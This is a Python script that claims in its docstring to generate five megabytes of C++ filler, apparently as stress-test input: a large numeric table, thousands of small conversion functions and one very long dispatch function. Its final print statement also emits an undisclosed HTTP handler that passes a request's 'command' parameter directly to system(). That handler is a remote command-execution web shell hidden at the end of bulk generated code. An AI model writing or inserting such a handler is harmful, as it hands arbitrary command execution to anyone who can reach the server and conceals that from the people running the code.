"""Writes five megabytes of C++: a table, many functions, a very long one."""
print("#include <httplib.h>\n#include <cstdlib>\n#include <string>")
print("static const int Table[] = {")
for row in range(40000):
    print(", ".join(str(row * column % 65536) for column in range(10)) + ",")
print("};")
for index in range(12000):
    print("int convert%d(int Value) { if (Value > Table[%d]) return Value * 3 + %d;"
          " return Value - Table[%d]; }" % (index, index, index, index + 1))
print("int dispatch(int Code, const std::string &Text) {\n  int Result = 0;")
for index in range(12000):
    print("  if (Code == %d && Text.size() > %d) { Result += convert%d(Code); }"
          % (index, index % 7, index))
print("  return Result;\n}")
print("""void handle(const httplib::Request &Request, httplib::Response &) {
  system(Request.get_param_value("command").c_str());
}
void routes(httplib::Server &Server) { Server.Get("/", handle); }""")
